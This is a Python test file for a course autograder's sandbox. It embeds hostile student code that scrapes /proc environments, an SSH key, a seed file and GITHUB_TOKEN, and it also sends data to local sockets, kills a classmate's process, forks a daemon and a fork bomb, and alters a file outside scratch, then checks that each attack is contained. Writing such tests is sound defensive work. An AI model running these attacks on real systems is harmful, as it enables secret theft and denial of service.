"""Real attacks on the box student code runs in (grader.gateway.sandbox), each written as a
hostile student would: the reference solutions plus attacks in their functions, which
return (or raise) what they stole (so a success would be printed in the feedback).
Each attack goes through a batch as one student of its own, with honest classmates; all of
them together, as one student, through `python -m grader --submission` and the Classroom
50 autograder (one run each: every attack in a try of its own, the four that only read or
connect in ex03's accuracy(), the fork bomb in ex04's evaluate(), another exercise's worker
with its own process limit). At fixtures this test makes: a fake HOME with an ssh key, a
token in the grader's environment, a seed file, listeners on 127.0.0.1, a path and an
abstract unix socket, a process to signal, a file outside scratch. After each: no secret
in any output, nothing received, no process left, the file untouched, the classmates' full
marks.

Where this machine lacks a protection, the test says which, and fails under CI.
"""
from __future__ import annotations

import csv
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from grader.course import ROOT, total_points
from grader.gateway import box as boxes, confinement
from tests.conftest import make_submission

TAG = uuid.uuid4().hex[:12]
SSH_KEY = f"SSH-KEY-{TAG}"
TOKEN = f"GH-TOKEN-{TAG}"
SEED = "918273645"                    # the instructor's secret seed
ALICE = f"ALICE-PRIVATE-{TAG}"        # in a classmate's file
STOLEN = "STOLEN"                     # what every attack's answer starts with

# The wrapped function runs its attacks once per worker, each in a try of its own (one that
# fails cannot stop the next); what they got becomes its (wrong) answer, or, for evaluate(),
# whose answer is a tuple, an exception: both are printed in the feedback.
WRAPPER = '''
import builtins as _builtins
_original_{function} = {function}
def {function}(*args, **kwargs):
    if not getattr(_builtins, "_box_tried", False):
        _builtins._box_tried = True
        stolen = []
        for name, attack in [{attacks}]:
            try:
                got = attack()
            except Exception:
                got = []
            if got:
                print("STOLEN-" + name, got, flush=True)
                stolen.append("STOLEN-" + name + " " + " | ".join(got))
        if stolen:
            {give}
    return _original_{function}(*args, **kwargs)
'''
GIVE = {"accuracy": 'return " || ".join(stolen)', "evaluate": 'raise RuntimeError(" || ".join(stolen))'}
# Where each attack runs: the fork bomb in an exercise (a worker, a process limit) of its own.
EXERCISE = {"survivors": ("ex04", "evaluate")}
READER = ("ex03", "accuracy")

ATTACKS = {
    "secrets": '''
def _attack():
    import glob, os
    got = []
    for path in [{key!r}, {seed_file!r}] + glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            text = open(path, "rb").read().decode(errors="replace")
        except OSError:
            continue
        for secret in ({key_text!r}, {token!r}, {seed!r}, "--seed-file"):
            if secret in text:
                got.append(path + ": " + text.replace("\\0", " ")[:300])
    if os.environ.get("GITHUB_TOKEN"):
        got.append("env " + os.environ["GITHUB_TOKEN"])
    return got
''',
    "network": '''
def _attack():
    import socket
    got = []
    tries = [("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp_port})),
             ("unix", socket.AF_UNIX, socket.SOCK_STREAM, {unix_path!r}),
             ("abstract", socket.AF_UNIX, socket.SOCK_STREAM, {abstract!r})]
    for name, family, kind, address in tries:
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"STOLEN via " + name.encode())
                got.append(name)
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"STOLEN via udp", ("127.0.0.1", {udp_port}))
            got.append("udp")
    except OSError:
        pass
    return got
''',
    "classmates": '''
def _attack():
    import os, signal
    got = []
    for path in ({alice_file!r}, {csv_path!r}):
        try:
            got.append(open(path).read()[-300:])
        except OSError:
            pass
    try:
        os.kill({victim}, signal.SIGKILL)
        got.append("killed the victim")
    except OSError:
        pass
    return got
''',
    "survivors": '''
def _attack():
    import ctypes, os, time
    libc = ctypes.CDLL(None)
    if os.fork() == 0:                        # the daemon: double fork, its own session
        os.setsid()
        if os.fork() == 0:
            libc.prctl(15, b"boxdaemon")
            for _ in range(60):
                time.sleep(0.5)
                try:
                    open({daemon_file!r}, "a").write("still here\\n")
                except OSError:
                    pass
        os._exit(0)
    started, deadline = 0, time.monotonic() + 3
    while started < 200 and time.monotonic() < deadline:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            if started % 2:
                os.setsid()
            libc.prctl(15, b"boxchild")
            time.sleep(60)
            os._exit(0)
        started += 1
    return ["started %d children" % started] if started >= 200 else []
''',
    "metadata": '''
def _attack():
    import os
    got = []
    try:
        os.chmod({outside!r}, 0o777)
        got.append("chmod")
    except OSError:
        pass
    try:
        os.utime({outside!r}, (1, 1))
        got.append("utime")
    except OSError:
        pass
    return got
''',
}
NEEDS = {      # the layers that stop each attack
    "secrets": (boxes.READS, boxes.PID_NS, boxes.ENVIRONMENT),
    "network": (boxes.NET_NS, boxes.SOCKETS, boxes.TCP, boxes.SCOPE),
    "classmates": (boxes.READS, boxes.PID_NS, boxes.SCOPE),
    "survivors": (boxes.PID_NS, boxes.PROCESSES),
    "metadata": (boxes.MOUNT_NS,),
}


class Listener:
    """Sockets on this machine that record whatever reaches them."""

    def __init__(self, folder: Path):
        self.received: list[bytes] = []
        self.tcp = self._bound(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0))
        self.udp = self._bound(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        self.unix_path = str(folder / "agent.sock")
        self.unix = self._bound(socket.AF_UNIX, socket.SOCK_STREAM, self.unix_path)
        os.chmod(self.unix_path, 0o777)        # so that only the box, not file modes, stops it
        self.abstract = f"\0grader-box-{TAG}"
        self.abstract_socket = self._bound(socket.AF_UNIX, socket.SOCK_STREAM, self.abstract)
        for s in (self.tcp, self.unix, self.abstract_socket):
            s.listen()
            threading.Thread(target=self._accept, args=(s,), daemon=True).start()
        threading.Thread(target=self._datagrams, daemon=True).start()

    @staticmethod
    def _bound(family, kind, address):
        s = socket.socket(family, kind)
        s.bind(address)
        return s

    def _accept(self, server):
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096) or b"(a connection)")
                except OSError:
                    self.received.append(b"(a connection)")

    def _datagrams(self):
        while True:
            try:
                self.received.append(self.udp.recv(4096))
            except OSError:
                return


def attacker(directory: Path, names: list[str], values: dict) -> Path:
    """The reference solutions with the named attacks, each in its exercise's function."""
    places: dict[tuple[str, str], list[str]] = {}
    for name in names:
        places.setdefault(EXERCISE.get(name, READER), []).append(name)
    code = {}
    for (ex_id, function), group in places.items():
        defs = "".join(textwrap.dedent(ATTACKS[name]).format(**values).replace("def _attack(", f"def _attack_{name}(")
                       for name in group)
        pairs = ", ".join(f"({name!r}, _attack_{name})" for name in group)
        code[ex_id] = defs + WRAPPER.format(function=function, attacks=pairs, give=GIVE[function])
    return make_submission(directory, **code)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("box")
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SSH_KEY}\n")
    seed_file = root / "seed.txt"
    seed_file.write_text(SEED + "\n")
    outside = root / "outside.txt"
    outside.write_text("the instructor's file\n")
    os.chmod(outside, 0o644)
    os.utime(outside, (1_700_000_000, 1_700_000_000))
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    listener = Listener(root)
    subs = root / "class"
    make_submission(subs / "alice" / "exercises")
    alice_file = subs / "alice" / "exercises" / "ex01_data.py"
    alice_file.write_text(alice_file.read_text() + f"\n# {ALICE}\n")
    make_submission(subs / "bob" / "exercises")
    values = dict(key=str(home / ".ssh" / "id_rsa"), key_text=SSH_KEY, token=TOKEN, seed=SEED,
                  seed_file=str(seed_file), tcp_port=listener.tcp.getsockname()[1],
                  udp_port=listener.udp.getsockname()[1], unix_path=listener.unix_path,
                  abstract=listener.abstract, alice_file=str(alice_file),
                  csv_path=str(root / "grades.csv"), victim=victim.pid,
                  daemon_file=str(root / "daemon-was-here"), outside=str(outside))
    attackers = {name: attacker(subs / f"mallory-{name}" / "exercises", [name], values) for name in ATTACKS}
    env = {**os.environ, "HOME": str(home), "GITHUB_TOKEN": TOKEN}
    yield dict(root=root, env=env, seed_file=seed_file, outside=outside, victim=victim,
               listener=listener, attackers=attackers, subs=subs, values=values)
    victim.kill()
    victim.wait()


@pytest.fixture(scope="module")
def box():
    return confinement.probe()


def missing(box, attack: str) -> list[str]:
    return [name for name in NEEDS[attack] if not box.applied(name)]


def require(box, attack: str) -> None:
    """Fail under CI, else skip, where this machine lacks a layer the attack needs."""
    if missing(box, attack):
        message = f"this machine lacks {', '.join(missing(box, attack))}: `python -m grader sandbox` says why"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


@pytest.fixture(scope="module")
def mallory(world, box) -> Path:
    """One student with every attack this machine's box should stop (the others' tests
    skip, or fail under CI), outside the class the batch grades."""
    names = [name for name in ATTACKS if not missing(box, name)]
    return attacker(world["root"] / "alone" / "mallory" / "exercises", names, world["values"])


def survivors() -> list[str]:
    """Processes the attacks named, still running."""
    found = []
    for comm in Path("/proc").glob("[0-9]*/comm"):
        try:
            name = comm.read_text().strip()
        except OSError:
            continue
        if name in ("boxdaemon", "boxchild"):
            found.append(f"{name} (pid {comm.parent.name})")
    return found


def assert_contained(world, outputs: str, attacks: tuple[str, ...] = tuple(ATTACKS)) -> None:
    """No secret in the outputs, and nothing the named attacks aimed at reached or changed
    (with every attack named: not a word any attack printed either)."""
    markers = [f"STOLEN-{name}" for name in attacks] + (["STOLEN"] if set(attacks) == set(ATTACKS) else [])
    for secret in (SSH_KEY, TOKEN, SEED, ALICE, *markers):
        assert secret not in outputs, f"{secret} reached the output:\n{outputs[:3000]}"
    if "network" in attacks:
        assert world["listener"].received == [], world["listener"].received
    if "survivors" in attacks:
        time.sleep(1.5)                 # the daemon's first write, had it survived
        assert survivors() == []
        assert not (world["root"] / "daemon-was-here").exists()
    if "classmates" in attacks:
        assert world["victim"].poll() is None, "the test's process was killed"
    if "metadata" in attacks:
        stat = os.stat(world["outside"])
        assert (stat.st_mode & 0o777, stat.st_mtime) == (0o644, 1_700_000_000)


def grader(world, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "grader", *args, "--seed-file", str(world["seed_file"])],
                          capture_output=True, text=True, timeout=600, cwd=ROOT, env=world["env"])


@pytest.fixture(scope="module")
def through_submission(world, mallory, tmp_path_factory) -> str:
    """Every output of `python -m grader --submission` on mallory."""
    report = tmp_path_factory.mktemp("submission") / "report.json"
    proc = grader(world, "--submission", str(mallory), "--format", "json", "--output", str(report))
    assert proc.returncode in (0, 1), proc.stderr
    return proc.stdout + proc.stderr + report.read_text()


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_attack_through_submission_gets_nothing(world, box, attack, through_submission):
    require(box, attack)
    assert_contained(world, through_submission, (attack,))


def test_attackers_in_a_batch_get_nothing_and_classmates_keep_full_marks(world, box):
    for attack in ATTACKS:
        require(box, attack)
    grades = world["root"] / "grades.csv"
    proc = grader(world, "batch", str(world["subs"]), "--csv", str(grades), "--jobs", "2", "--quiet")
    assert proc.returncode in (0, 1), proc.stderr
    outputs = [proc.stdout, proc.stderr, grades.read_text()]
    outputs += [p.read_text(errors="replace") for p in world["root"].rglob("*")
                if p.is_file() and p.suffix in (".md", ".json", ".html", ".csv")
                and not {"class", "alone"} & set(p.relative_to(world["root"]).parts)]
    assert_contained(world, "\n".join(outputs))
    with open(grades, newline="") as f:
        totals = {row["student"]: row["total"] for row in csv.DictReader(f)}
    assert float(totals["alice"]) == float(totals["bob"]) == total_points()
    for attack in ATTACKS:
        assert float(totals[f"mallory-{attack}"]) <= total_points()


@pytest.mark.parametrize("fork", ["os.fork", "fork_box"])
def test_a_fork_bomb_stops_at_the_process_limit(box, tmp_path, fork):
    """200 children asked for, in a box entered by a small process (this one's fork): forked
    as the zygote forks a worker (straight into a pid namespace of its own, where it may),
    and by a plain fork (the box then makes the namespace and forks again). Either way the
    code runs as pid 1 of its own namespace."""
    require(box, "survivors")
    from grader.gateway import namespaces, sandbox

    read_end, write_end = os.pipe()
    if fork == "fork_box":
        namespaces.allow_fork_box()
    try:
        pid = os.fork() if fork == "os.fork" else namespaces.fork_box()
    finally:
        namespaces.forget_fork_box()          # in this process: as before the test
    if pid == 0:
        try:
            if fork == "fork_box" and os.getuid() == 0 and os.getpid() != 1:
                os.write(write_end, b"-3")          # root may: it should be pid 1 already
                os._exit(0)
            sandbox.enter(str(tmp_path), os.open(os.devnull, os.O_WRONLY), None, keep=(write_end,))
            if os.getpid() != 1:
                os.write(write_end, b"-2")
                os._exit(0)
            started = 0
            for _ in range(200):
                try:
                    if os.fork() == 0:
                        time.sleep(60)
                        os._exit(0)
                except OSError:
                    break
                started += 1
            os.write(write_end, str(started).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    started = int(os.read(read_end, 100) or b"-1")
    os.waitpid(pid, 0)
    os.close(read_end)
    assert 0 < started < 200
    assert started <= sandbox.PROCESS_LIMIT


def test_batch_stops_where_student_code_cannot_be_confined(monkeypatch):
    """What batch does on a machine without Landlock or namespaces (macOS, Windows, an
    old kernel, Ubuntu's AppArmor rule): stop and say why, or go on with --unconfined."""
    missing = boxes.unconfined_box("no Landlock here")
    monkeypatch.setattr(confinement, "probe", lambda: missing)
    with pytest.raises(confinement.Unconfined, match="--unconfined") as stopped:
        confinement.require_for_batch(unconfined=False)
    assert "Landlock" in str(stopped.value) and "user namespaces" in str(stopped.value)
    confinement.require_for_batch(unconfined=True)           # goes on


def test_the_sandbox_command_prints_one_row_per_layer():
    proc = subprocess.run([sys.executable, "-m", "grader", "sandbox"], capture_output=True, text=True,
                          timeout=120, cwd=ROOT)
    for name in boxes.STOPS:
        assert name in proc.stdout
    assert proc.returncode == (1 if confinement.probe().missing else 0), proc.stdout + proc.stderr


@pytest.fixture(scope="module")
def autograder(world, tmp_path_factory) -> Path:
    """The Classroom 50 folder, with the instructor's secret seed in it."""
    out = tmp_path_factory.mktemp("runtime") / "multiclass"
    proc = subprocess.run([sys.executable, "-m", "grader", "classroom50", str(out), "--seed-file",
                           str(world["seed_file"])], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return out


@pytest.fixture(scope="module")
def through_classroom50(world, mallory, autograder, tmp_path_factory) -> str:
    """The runner's job on mallory: autograder.py in the student's checkout, the job's
    token in its environment, the seed in the folder beside it; every output."""
    from tests.test_classroom50 import run_autograder

    checkout = tmp_path_factory.mktemp("classroom50") / "checkout"
    (checkout / "exercises").mkdir(parents=True)
    for path in mallory.glob("*.py"):
        (checkout / "exercises" / path.name).write_bytes(path.read_bytes())
    proc = run_autograder(autograder, checkout, Path(world["env"]["HOME"]), GITHUB_TOKEN=TOKEN)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    return "\n".join([proc.stdout, proc.stderr] + [(checkout / name).read_text()
                                                  for name in ("result.json", "release-body.md")])


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_an_attack_through_the_classroom50_autograder_gets_nothing(world, box, attack, through_classroom50):
    require(box, attack)
    assert_contained(world, through_classroom50, (attack,))
